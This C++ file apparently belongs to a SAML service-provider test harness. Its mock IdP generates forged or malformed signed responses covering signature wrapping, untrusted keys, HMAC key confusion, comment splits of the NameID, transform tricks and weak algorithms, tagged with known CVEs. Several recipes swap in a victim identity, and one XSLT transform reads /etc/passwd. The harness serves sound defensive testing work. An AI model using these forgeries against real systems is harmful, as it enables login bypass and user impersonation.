// Reference URIs (SX-6/7), untrusted keys (CF-*), key confusion (KC-*),
// transforms (TR-*), algorithms (AL-*) and comment/CDATA/PI splits (CI-*).
// Where the catalogue says "the mock IdP re-signs", the signature is crafted
// with xmlsec so it is cryptographically valid: an SP must refuse it for its
// shape, not because the maths fails.
#include <openssl/bn.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509.h>
#include <xmlsec/crypto.h>

#include "attacks/mutation_util.hpp"
#include "attacks/recipes.hpp"
#include "core/bindings.hpp"

namespace samlh::idp::recipes {
namespace {

using namespace mut;
namespace ns = core::ns;

constexpr std::string_view kSha256Digest = "http://www.w3.org/2001/04/xmlenc#sha256";

void make_evil(Doc& d, const MutationMaterial& m) { set_text(name_id(d), m.victim); }

// Signs the assertion with `spec` (a crafted signature) after making it evil;
// the Response stays unsigned so the assertion signature is what counts.
MutationResult<Mutated> crafted(const MutationMaterial& m, CraftedSignature spec, std::string note, bool evil = true) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (evil) make_evil(*d, m);
  if (auto st = core::register_id(d->doc.get(), d->response); !st) return failed(st.failure());
  if (auto st = sign_crafted(d->assertion, m.idp_key, spec); !st) return st.failure();
  return one(dump(*d), std::move(note));
}

CraftedSignature standard(const Doc& d) {
  CraftedSignature s;
  s.c14n = xmlSecTransformExclC14NId;
  s.method = xmlSecTransformRsaSha256Id;
  s.references = {standard_reference(d.assertion)};
  return s;
}

// Signed normally, then a text edit of the shape; when the edit is inside
// SignedInfo, the SignatureValue is recomputed so the maths still holds and
// only the shape is wrong (used where xmlsec cannot produce the odd form).
MutationResult<Mutated> signed_then_edited(const MutationMaterial& m, const std::string& from, const std::string& to,
                                         std::string note, bool evil = false, bool resign = true) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (evil) make_evil(*d, m);
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  std::string xml = dump(*d);
  const auto pos = xml.find(from);
  if (pos == std::string::npos) return cannot("'" + from + "' not found in the signed response");
  xml.replace(pos, from.size(), to);
  if (!resign) return one(std::move(xml), std::move(note));
  auto edited = load(xml);
  if (!edited) return edited.failure();
  xmlNode* sig = ds_child(edited->assertion, "Signature");
  if (auto st = resign_signed_info(sig, m.idp_key, m.sign_options.signature); !st) return st.failure();
  return one(dump(*edited), std::move(note));
}

MutationResult<Mutated> sign_with(const MutationMaterial& m, const core::PrivateKey& key, std::string note) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  make_evil(*d, m);
  if (auto st = sign_element(d->assertion, key, m.sign_options); !st) return st.failure();
  return one(dump(*d), std::move(note));
}

std::string der_of_cert(const core::Certificate& c) { return c.der(); }

std::string spki_der(const core::Certificate& c) {
  unsigned char* buf = nullptr;
  const int n = i2d_PUBKEY(c.public_key(), &buf);
  std::string out(reinterpret_cast<const char*>(buf), n > 0 ? static_cast<std::size_t>(n) : 0);
  OPENSSL_free(buf);
  return out;
}

std::string bn_param_b64(EVP_PKEY* k, const char* name) {
  BIGNUM* bn = nullptr;
  if (EVP_PKEY_get_bn_param(k, name, &bn) != 1) return {};
  std::string bytes(static_cast<std::size_t>(BN_num_bytes(bn)), '\0');
  BN_bn2bin(bn, reinterpret_cast<unsigned char*>(bytes.data()));
  BN_free(bn);
  return core::base64_encode(bytes);
}

MutationResult<Mutated> hmac(const MutationMaterial& m, std::string key_bytes, xmlSecTransformId method, int bits,
                           std::string note) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.method = method;
  s.hmac_key = std::move(key_bytes);
  s.hmac_output_bits = bits;
  return crafted(m, s, std::move(note));
}

}  // namespace

// --- SX-6, SX-7: references --------------------------------------------------
MutationResult<Mutated> sx6_uri_empty(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.references[0].uri = "";
  return crafted(m, s, "SX-6: Reference URI=\"\" (the whole document)");
}
MutationResult<Mutated> sx6_uri_xpointer_root(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.references[0].uri = "#xpointer(/)";
  return crafted(m, s, "SX-6: Reference URI=\"#xpointer(/)\"");
}
MutationResult<Mutated> sx6_uri_xpointer_id(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.references[0].uri = "#xpointer(id('" + core::attr(d->assertion, "ID") + "'))";
  return crafted(m, s, "SX-6: Reference URI=\"#xpointer(id('...'))\"");
}
MutationResult<Mutated> sx6_uri_without_hash(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  const std::string id = core::attr(d->assertion, "ID");
  return signed_then_edited(m, "URI=\"#" + id + "\"", "URI=\"" + id + "\"", "SX-6: Reference URI without '#'");
}
MutationResult<Mutated> sx7_two_references(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  // A second, independently valid Reference (a reference to the enclosing
  // Response could not be valid: it would cover this very signature).
  s.references.push_back(standard_reference(d->assertion));
  return crafted(m, s, "SX-7: two References in one SignedInfo");
}

// --- CF: keys the SP must not trust ------------------------------------------
MutationResult<Mutated> cf1_attacker_certificate(const MutationMaterial& m) {
  return sign_with(m, m.attacker_key, "CF-1: re-signed with the attacker key, its certificate in KeyInfo");
}
MutationResult<Mutated> cf2_cloned_certificate(const MutationMaterial& m) {
  return sign_with(m, m.attacker_clone_key, "CF-2: re-signed with a certificate cloning the IdP's subject and serial");
}
MutationResult<Mutated> cf3_raw_key_value(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  make_evil(*d, m);
  core::SignOptions o = m.sign_options;
  o.include_certificate = false;
  if (auto st = sign_element(d->assertion, m.attacker_key, o); !st) return st.failure();
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlNode* ki = xmlNewChild(sig, sig->ns, core::as_xml("KeyInfo"), nullptr);
  xmlNode* kv = xmlNewChild(ki, sig->ns, core::as_xml("KeyValue"), nullptr);
  xmlNode* rsa = xmlNewChild(kv, sig->ns, core::as_xml("RSAKeyValue"), nullptr);
  const std::string n = bn_param_b64(m.attacker_key.pkey(), OSSL_PKEY_PARAM_RSA_N);
  const std::string e = bn_param_b64(m.attacker_key.pkey(), OSSL_PKEY_PARAM_RSA_E);
  xmlNewTextChild(rsa, sig->ns, core::as_xml("Modulus"), core::as_xml(n.c_str()));
  xmlNewTextChild(rsa, sig->ns, core::as_xml("Exponent"), core::as_xml(e.c_str()));
  return one(dump(*d), "CF-3 / CVE-2021-21239: attacker key as a raw RSAKeyValue");
}
MutationResult<Mutated> cf4_certificate_chain(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  make_evil(*d, m);
  if (auto st = sign_element(d->assertion, m.attacker_clone_key, m.sign_options); !st) return st.failure();
  xmlNode* x509 = ds_child(ds_child(ds_child(d->assertion, "Signature"), "KeyInfo"), "X509Data");
  xmlNewTextChild(x509, x509->ns, core::as_xml("X509Certificate"),
                  core::as_xml(m.attacker_key.certificate().base64(76).c_str()));
  return one(dump(*d), "CF-4: a look-alike certificate with a chain in KeyInfo");
}
MutationResult<Mutated> cf5_retrieval_method(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  make_evil(*d, m);
  core::SignOptions o = m.sign_options;
  o.include_certificate = false;
  if (auto st = sign_element(d->assertion, m.attacker_key, o); !st) return st.failure();
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlNode* ki = xmlNewChild(sig, sig->ns, core::as_xml("KeyInfo"), nullptr);
  xmlNode* rm = xmlNewChild(ki, sig->ns, core::as_xml("RetrievalMethod"), nullptr);
  set_attr(rm, "URI", "http://127.0.0.1:9/attacker-key.xml");
  set_attr(rm, "Type", "http://www.w3.org/2000/09/xmldsig#X509Data");
  return one(dump(*d), "CF-5 / CVE-2023-36661: KeyInfo points at a key to fetch");
}
MutationResult<Mutated> cf6_key_info_removed(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  core::SignOptions o = m.sign_options;
  o.include_certificate = false;
  if (auto st = sign_element(d->assertion, m.idp_key, o); !st) return st.failure();
  return one(dump(*d), "CF-6 (positive control): valid signature without KeyInfo");
}

// --- KC: key confusion --------------------------------------------------------
MutationResult<Mutated> kc1_hmac_with_certificate(const MutationMaterial& m) {
  return hmac(m, der_of_cert(m.idp_key.certificate()), xmlSecTransformHmacSha1Id, 0,
              "KC-1: HMAC-SHA1 keyed with the IdP certificate (DER)");
}
MutationResult<Mutated> kc1_hmac_with_pem(const MutationMaterial& m) {
  return hmac(m, m.idp_key.certificate().pem(), xmlSecTransformHmacSha1Id, 0,
              "KC-1: HMAC-SHA1 keyed with the IdP certificate (PEM text)");
}
MutationResult<Mutated> kc1_hmac_sha256_with_spki(const MutationMaterial& m) {
  return hmac(m, spki_der(m.idp_key.certificate()), xmlSecTransformHmacSha256Id, 0,
              "KC-1: HMAC-SHA256 keyed with the IdP public key (SPKI DER)");
}
MutationResult<Mutated> kc2_hmac_truncated(const MutationMaterial& m) {
  auto r = hmac(m, der_of_cert(m.idp_key.certificate()), xmlSecTransformHmacSha1Id, 160,
                "KC-2 / CVE-2009-0217: HMACOutputLength");
  if (!r) return r;
  // xmlsec refuses to produce a short HMAC; the claim is what matters.
  std::string& xml = r->posts.front().body;
  const auto pos = xml.find(">160<");
  if (pos != std::string::npos) xml.replace(pos, 5, ">8<");
  return r;
}
MutationResult<Mutated> kc3_ecdsa_method_with_rsa_key(const MutationMaterial& m) {
  return signed_then_edited(m, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                            "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
                            "KC-3 / CVE-2016-9814: SignatureMethod ECDSA while the pinned key is RSA", true, false);
}
MutationResult<Mutated> kc3_dsa_method(const MutationMaterial& m) {
  return signed_then_edited(m, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                            "http://www.w3.org/2000/09/xmldsig#dsa-sha1", "KC-3: SignatureMethod DSA-SHA1", true, false);
}
MutationResult<Mutated> kc4_numeric_digest(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  make_evil(*d, m);
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  xmlNode* dv = ds_child(ds_child(ds_child(ds_child(d->assertion, "Signature"), "SignedInfo"), "Reference"), "DigestValue");
  set_text(dv, "0e462097431906509019562988736854");
  return one(dump(*d), "KC-4 / SimpleSAMLphp 201809-01: a 'numeric-looking' DigestValue");
}
MutationResult<Mutated> kc4_wrapped_digest(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  xmlNode* dv = ds_child(ds_child(ds_child(ds_child(d->assertion, "Signature"), "SignedInfo"), "Reference"), "DigestValue");
  std::string v = core::text(dv);
  v.insert(v.size() / 2, "\n  ");
  set_text(dv, v);
  if (auto st = resign_signed_info(ds_child(d->assertion, "Signature"), m.idp_key, m.sign_options.signature); !st) {
    return st.failure();
  }
  return one(dump(*d), "KC-4 (positive control): DigestValue base64 wrapped with whitespace");
}

// --- CI: splits the c14n cannot see -------------------------------------------
namespace {
// The IdP signs '<victim>.evil.test' (an address the attacker owns); the split
// then tries to make a parser read only '<victim>'.
MutationResult<Mutated> split(const MutationMaterial& m, bool in_attribute, const std::string& marker, std::string note) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  const std::string owned = m.victim + ".evil.test";
  xmlNode* target = in_attribute ? attribute_value(*d, "email") : name_id(*d);
  if (target == nullptr) return cannot("no email attribute to split");
  set_text(target, owned);
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  std::string xml = dump(*d);
  const std::string from = ">" + owned + "<";
  const auto pos = xml.find(from);
  if (pos == std::string::npos) return cannot("signed value not found");
  xml.replace(pos, from.size(), ">" + m.victim + marker + ".evil.test<");
  return one(std::move(xml), std::move(note));
}
}  // namespace

MutationResult<Mutated> ci1_comment_in_name_id(const MutationMaterial& m) {
  return split(m, false, "<!---->", "CI-1 / CVE-2017-11427: a comment splits the signed NameID");
}
MutationResult<Mutated> ci2_comment_in_attribute(const MutationMaterial& m) {
  return split(m, true, "<!---->", "CI-2: a comment splits the signed email attribute");
}
MutationResult<Mutated> ci3_cdata_in_name_id(const MutationMaterial& m) {
  return split(m, false, "<![CDATA[]]>", "CI-3: an empty CDATA section splits the signed NameID");
}
MutationResult<Mutated> ci4_pi_in_name_id(const MutationMaterial& m) {
  return split(m, false, "<?x?>", "CI-4: a processing instruction splits the NameID (PIs are signed)");
}
MutationResult<Mutated> ci6_comment_in_digest_value(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  make_evil(*d, m);
  std::string xml = dump(*d);
  const auto pos = xml.find("DigestValue>");
  if (pos == std::string::npos) return cannot("no DigestValue");
  xml.insert(pos + 12, "<!--47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=-->");
  return one(std::move(xml), "CI-6 / CVE-2025-29775 (SAMLStorm): a comment inside DigestValue, assertion edited");
}
MutationResult<Mutated> ci7_comment_in_signature_value(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  std::string xml = dump(*d);
  const auto pos = xml.find("SignatureValue>");
  if (pos == std::string::npos) return cannot("no SignatureValue");
  xml.insert(pos + 15, "<!--x-->");
  return one(std::move(xml), "CI-7: a comment inside SignatureValue");
}
MutationResult<Mutated> ci7_comment_in_certificate(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  std::string xml = dump(*d);
  const auto pos = xml.find("X509Certificate>");
  if (pos == std::string::npos) return cannot("no X509Certificate");
  xml.insert(pos + 16, "<!--x-->");
  return one(std::move(xml), "CI-7: a comment inside X509Certificate");
}

// --- TR: transforms ------------------------------------------------------------
namespace {
MutationResult<Mutated> with_transforms(const MutationMaterial& m, std::vector<TransformSpec> t, std::string note,
                                      bool evil = true) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.references[0].transforms = std::move(t);
  return crafted(m, s, std::move(note), evil);
}
TransformSpec enveloped() { return TransformSpec{xmlSecTransformEnvelopedId, {}, {}, {}, {}}; }
TransformSpec exc() { return TransformSpec{xmlSecTransformExclC14NId, {}, {}, {}, {}}; }
}  // namespace

MutationResult<Mutated> tr1_xslt(const MutationMaterial& m) {
  TransformSpec x{xmlSecTransformXsltId, {}, {}, {}, {}};
  x.xslt = R"(<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">constant</xsl:template></xsl:stylesheet>)";
  return with_transforms(m, {enveloped(), x}, "TR-1: an XSLT transform whose output is constant");
}
MutationResult<Mutated> tr1_xslt_document(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  const std::string xslt =
      R"xslt(<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('file:///etc/passwd')"/></xsl:template></xsl:stylesheet></ds:Transform>)xslt";
  return signed_then_edited(m, "<ds:Transforms>", "<ds:Transforms>" + xslt,
                            "TR-1: an XSLT transform calling document() on a local file");
}
MutationResult<Mutated> tr2_xpath_filter(const MutationMaterial& m) {
  TransformSpec x{xmlSecTransformXPathId, {}, {}, {}, {}};
  x.xpath = "not(ancestor-or-self::*[local-name()='AttributeStatement'])";
  auto r = with_transforms(m, {enveloped(), x, exc()}, "TR-2: an XPath filter that leaves the attributes unsigned", false);
  return r;
}
MutationResult<Mutated> tr3_xpath2_subtract(const MutationMaterial& m) {
  TransformSpec x{xmlSecTransformXPath2Id, {}, {}, {}, {}};
  x.xpath = "//*[local-name()='Subject']";
  x.xpath2_type = "subtract";
  return with_transforms(m, {enveloped(), x, exc()}, "TR-3: an XPath Filter 2.0 subtracting the Subject");
}
MutationResult<Mutated> tr4_base64(const MutationMaterial& m) {
  return signed_then_edited(m, "<ds:Transforms>",
                            "<ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#base64\"/>",
                            "TR-4: a base64 transform");
}
MutationResult<Mutated> tr4_c14n_with_comments(const MutationMaterial& m) {
  return with_transforms(m, {enveloped(), TransformSpec{xmlSecTransformExclC14NWithCommentsId, {}, {}, {}, {}}},
                         "TR-4: exclusive c14n WithComments as a transform");
}
MutationResult<Mutated> tr4_three_transforms(const MutationMaterial& m) {
  return with_transforms(m, {enveloped(), exc(), exc()}, "TR-4: three transforms");
}
MutationResult<Mutated> tr4_unknown_transform(const MutationMaterial& m) {
  return signed_then_edited(m, "<ds:Transforms>",
                            "<ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2002/07/decrypt#XML\"/>",
                            "TR-4: the decryption transform");
}
MutationResult<Mutated> tr5_not_enveloped(const MutationMaterial& m) {
  return signed_then_edited(m, "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>", "",
                            "TR-5 / CVE-2020-5390: no enveloped-signature transform");
}
MutationResult<Mutated> tr5_signature_outside(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  xmlNode* sig = ds_child(d->assertion, "Signature");
  xmlUnlinkNode(sig);
  xmlAddNextSibling(saml_child(d->response, "Issuer"), sig);
  xmlReconciliateNs(d->doc.get(), d->response);
  return one(dump(*d), "TR-5: the Assertion's signature moved out, beside the Assertion");
}
MutationResult<Mutated> tr6_c14n_with_comments(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.c14n = xmlSecTransformExclC14NWithCommentsId;
  return crafted(m, s, "TR-6: CanonicalizationMethod exclusive c14n WithComments");
}
MutationResult<Mutated> tr6_unknown_c14n(const MutationMaterial& m) {
  return signed_then_edited(m, "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>",
                            "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>",
                            "TR-6: XSLT as the CanonicalizationMethod");
}
MutationResult<Mutated> tr7_void_c14n(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  make_evil(*d, m);
  xmlNode* dv = ds_child(ds_child(ds_child(ds_child(d->assertion, "Signature"), "SignedInfo"), "Reference"), "DigestValue");
  set_text(dv, "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=");
  std::string xml = dump(*d);
  const auto pos = xml.find("<saml2:Assertion ");
  if (pos == std::string::npos) return cannot("no saml2:Assertion start tag");
  xml.insert(pos + 17, "xmlns:ns=\"1\" ");
  return one(std::move(xml), "TR-7 / CVE-2025-66568: relative namespace URI and the digest of nothing");
}

// --- AL: algorithms -----------------------------------------------------------
MutationResult<Mutated> al1_sha1_digest(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.references[0].digest = xmlSecTransformSha1Id;
  return crafted(m, s, "AL-1: SHA-1 digest", false);
}
MutationResult<Mutated> al2_md5_digest(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.references[0].digest = xmlSecTransformMd5Id;
  auto r = crafted(m, s, "AL-2: MD5 digest", false);
  if (r) return r;
  return signed_then_edited(m, std::string(kSha256Digest), "http://www.w3.org/2001/04/xmldsig-more#md5", "AL-2: MD5 digest");
}
MutationResult<Mutated> al3_rsa_sha1(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.method = xmlSecTransformRsaSha1Id;
  return crafted(m, s, "AL-3: RSA-SHA1 signature", false);
}
MutationResult<Mutated> al3_rsa_md5(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.method = xmlSecTransformRsaMd5Id;
  auto r = crafted(m, s, "AL-3: RSA-MD5 signature", false);
  if (r) return r;
  return signed_then_edited(m, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                            "http://www.w3.org/2001/04/xmldsig-more#rsa-md5", "AL-3: RSA-MD5 signature");
}
MutationResult<Mutated> al4_declared_not_used(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  CraftedSignature s = standard(*d);
  s.method = xmlSecTransformRsaSha1Id;
  auto r = crafted(m, s, "AL-4: SignatureMethod claims RSA-SHA256, the value is RSA-SHA1", false);
  if (!r) return r;
  std::string& xml = r->posts.front().body;
  const std::string from = "http://www.w3.org/2000/09/xmldsig#rsa-sha1";
  xml.replace(xml.find(from), from.size(), "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256");
  return r;
}
MutationResult<Mutated> al4_short_digest(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  xmlNode* dv = ds_child(ds_child(ds_child(ds_child(d->assertion, "Signature"), "SignedInfo"), "Reference"), "DigestValue");
  set_text(dv, core::base64_encode(std::string(20, '\x5a')));
  return one(dump(*d), "AL-4: DigestMethod SHA-256 with a SHA-1-length DigestValue");
}
MutationResult<Mutated> al5_trailing_space(const MutationMaterial& m) {
  return signed_then_edited(m, "xmldsig-more#rsa-sha256\"", "xmldsig-more#rsa-sha256 \"",
                            "AL-5: SignatureMethod URI with a trailing space");
}
MutationResult<Mutated> al5_upper_case(const MutationMaterial& m) {
  return signed_then_edited(m, "xmldsig-more#rsa-sha256\"", "xmldsig-more#RSA-SHA256\"",
                            "AL-5: SignatureMethod URI in another case");
}

}  // namespace samlh::idp::recipes
